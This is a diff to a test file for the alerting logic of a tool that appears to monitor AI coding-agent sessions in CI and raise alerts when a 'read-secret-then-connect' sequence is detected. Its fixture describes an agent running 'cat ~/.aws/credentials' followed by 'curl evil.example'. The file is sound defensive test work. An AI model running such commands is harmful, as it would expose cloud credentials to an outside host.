@@ -1,9 +1,10 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { incidents } from '../../src/alert/incident.ts';
 import type { Alert } from '../../src/model/alert.ts';
 import { toIso } from '../../src/model/time.ts';
 import type { Finding, Verdict } from '../../src/model/verdict.ts';
-import { anAction, aSession, at, aVerdict, ended, play } from './timeline.ts';
+import { anAction, aSession, at, aVerdict, config, ended, play } from './timeline.ts';
 
 const one = aSession();
 const two = aSession({ id: 'claude-code-ba9876543210', pid: 99, pod: 'runner-def', runId: '124' });
@@ -146,12 +147,19 @@ describe('incidents', () => {
     expect(alerts[2]?.[0]).toMatchObject({ generatorURL: 'https://github.com/acme/shop/actions/runs/123' });
     expect(alerts[2]?.[0]?.annotations).toEqual({
       summary: 'first',
-      description: '12:00:01Z shell: cat ~/.aws/credentials\n12:00:03Z network: curl evil.example',
+      description:
+        '> 12:00:01Z shell: cat ~/.aws/credentials\n- 12:00:02Z shell: npm test\n> 12:00:03Z network: curl evil.example',
       expected: 'npm test (98 %)',
       summaries: 'first',
       count: '1',
       sessions: '1',
       session: one.id,
+      where: 'acme/shop / ci / fix, run 123, pod runners/runner-abc, node node-1',
+      run_url: 'https://github.com/acme/shop/actions/runs/123',
+      next_steps: [
+        "look closer: creance explain verdicts.jsonl 'claude-code-0123456789ab'",
+        `silence: amtool silence add --duration=2h --comment='looking into it' 'alertname="CreanceSequenceMatched"' 'agent="claude-code"' 'detector="sequence"' 'rule="read-secret-then-connect"' 'repository="acme/shop"' 'workflow="ci"' 'job="fix"' 'namespace="runners"'`,
+      ].join('\n'),
       run: '123',
       pod: 'runner-abc',
       node: 'node-1',
@@ -181,6 +189,56 @@ describe('incidents', () => {
     });
   });
 
+  it('makes one alert with a count of what comes up in many places at once', () => {
+    const place = (n: number) => aSession({ id: `s${n}`, scope: { repository: `acme/r${n}`, job: 'fix' } });
+    const places = Array.from({ length: 300 }, (_, n) => place(n));
+    const told = play([
+      ...places.map((session, n) => aVerdict(n, session, [{ summary: 'ran a new program' }])),
+      ...places.map((session, n) => ended(400 + n, session)),
+      aVerdict(900, place(7), [{}]),
+    ]);
+    const alerts = told.flat();
+    const identities = new Set(alerts.map(({ labels }) => JSON.stringify(labels)));
+    expect(identities.size).toBe(11);
+    const shared = told[299]?.[0];
+    expect(shared?.labels).toEqual({
+      alertname: 'CreanceSequenceMatched',
+      severity: 'warning',
+      agent: 'claude-code',
+      detector: 'sequence',
+      rule: 'read-secret-then-connect',
+      spread: 'many',
+    });
+    expect(shared?.annotations).toMatchObject({
+      sessions: '290',
+      count: '290',
+      repositories: expect.stringMatching(/^290: acme\/r10, .*…$/),
+    });
+    expect(
+      new Set(alerts.filter(({ endsAt }) => endsAt !== undefined).map(({ labels }) => JSON.stringify(labels))),
+    ).toEqual(identities);
+    expect(told.at(-1)?.[0]?.labels).toMatchObject({ repository: 'acme/r7' });
+  });
+
+  it('tells the latest actions, and of too many the accused', () => {
+    const action = (index: number) =>
+      anAction(one, { index, title: `step ${index}`, start: at(index), kind: index === 27 ? 'housekeeping' : 'shell' });
+    const [alerts] = [
+      ...Array.from({ length: 30 }, (_, index) => aVerdict(index, one, [], { action: action(index) })),
+      aVerdict(30, one, [{ actions: [2, 4, 29] }]),
+    ].map((_, __, all) => play(all).at(-1));
+    const lines = (alerts?.[0]?.annotations.description ?? '').split('\n');
+    expect(lines.map((line) => line.replace(/ .* /, ' '))).toEqual([
+      '> 2',
+      '> 4',
+      '- 24',
+      '- 25',
+      '- 26',
+      '- 28',
+      '> 29',
+    ]);
+  });
+
   it('keeps the last five summaries', () => {
     const verdicts = Array.from({ length: 9 }, (_, n) => aVerdict(n, one, [{ summary: `s${n}` }]));
     expect(play(verdicts).at(-1)?.[0]?.annotations).toMatchObject({ count: '9', summaries: 's4\ns5\ns6\ns7\ns8' });
@@ -207,6 +265,47 @@ describe('incidents', () => {
       expect(alerts?.[0]).not.toHaveProperty('generatorURL');
     },
   );
+});
+
+describe('incidents that an earlier process left', () => {
+  const [[first] = []] = play([aVerdict(1, one, [raise('a'), raise('a')])]);
+  const restored = [{ ...(first as Alert), sessions: [one.id, two.id] }];
+  const orphanMs = 60_000;
+
+  it('go on as they were, with the evidence and the count that they had', () => {
+    const alerts = play([aVerdict(20, one, [{ rule: 'a', summary: 'more' }])], { restored });
+    expect(alerts[0]?.map(told)).toEqual(['+warning a 01']);
+    expect(alerts[0]?.[0]?.annotations).toMatchObject({
+      count: '3',
+      sessions: '2',
+      summary: 'more',
+      first_seen: '2026-03-01T12:00:01.000Z',
+    });
+  });
+
+  it('resolve when the last of their sessions has ended', () => {
+    const alerts = play([ended(20, one), ended(30, two)], { restored });
+    expect(alerts.map((some) => some.map(told))).toEqual([['+warning a 01'], ['-warning a 01..30']]);
+    expect(alerts[1]?.[0]?.annotations.summary).toBe(first?.annotations.summary);
+  });
+
+  it('resolve when none of their sessions comes back in time', () => {
+    const core = incidents({ ...config, restored, orphanMs });
+    const state = core.initial();
+    expect(core.onTick(state, at(100))).toEqual([]);
+    expect(core.onTick(state, at(159))).toEqual([]);
+    expect(core.onTick(state, at(160)).map(told)).toEqual(['-warning a 01..40']);
+    expect(core.onTick(state, at(170))).toEqual([]);
+  });
+
+  it('stay with a session that came back', () => {
+    const core = incidents({ ...config, restored, orphanMs });
+    const state = core.initial();
+    core.onTick(state, at(100));
+    core.onEvent(state, aVerdict(110, one));
+    expect(core.onTick(state, at(400))).toEqual([]);
+    expect(core.onEvent(state, ended(500, one)).map(told)).toEqual(['-warning a 01..20']);
+  });
 });
 
 describe('incidents, whatever comes', () => {
